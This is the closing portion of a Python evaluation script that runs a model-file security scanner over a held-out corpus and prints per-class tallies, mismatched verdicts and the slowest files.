    with tempfile.TemporaryDirectory(prefix='heldout-corpus-') as workdir:
        results = scan_all(samples, workdir)
    cols = ('files', 'flagged', 'malicious called malicious', 'benign flagged', 'errors')
    print('held-out corpus (written blind, issue #19): %d files; scanner: plugins/module_utils/model_formats.inspect_stream' % len(results))
    print()
    print('%-12s ' % 'class' + ' '.join('%-26s' % c for c in cols))
    for cls in CLASSES + ('TOTAL',):
        rows = results if cls == 'TOTAL' else [r for r in results if r['class'] == cls]
        counts = tally(rows)
        print('%-12s ' % cls + ' '.join('%-26s' % counts[c] for c in cols))
    print()
    differ = [r for r in results if r['error'] or r['got'] != r['expected']]
    print('files whose verdict differs from the expectation (%d); "ok" = acceptable (suspicious expected, malicious given):' % len(differ))
    for r in differ:
        mark = 'ok ' if (not r['error'] and right(r['expected'], r['got'])) else 'BAD'
        got = 'ERROR %s' % r['error'] if r['error'] else r['got']
        print('  %s %-12s %-34s expected %-10s got %-10s | %s' % (mark, r['class'], r['name'], r['expected'], got, r['detail'][:150]))
        print('      %-47s why: %s' % ('', r['source']))
    slow = sorted(results, key=lambda r: -r['seconds'])[:3]
    print()
    print('slowest: ' + ', '.join('%s %.2fs' % (r['name'], r['seconds']) for r in slow))


if __name__ == '__main__':
    main()
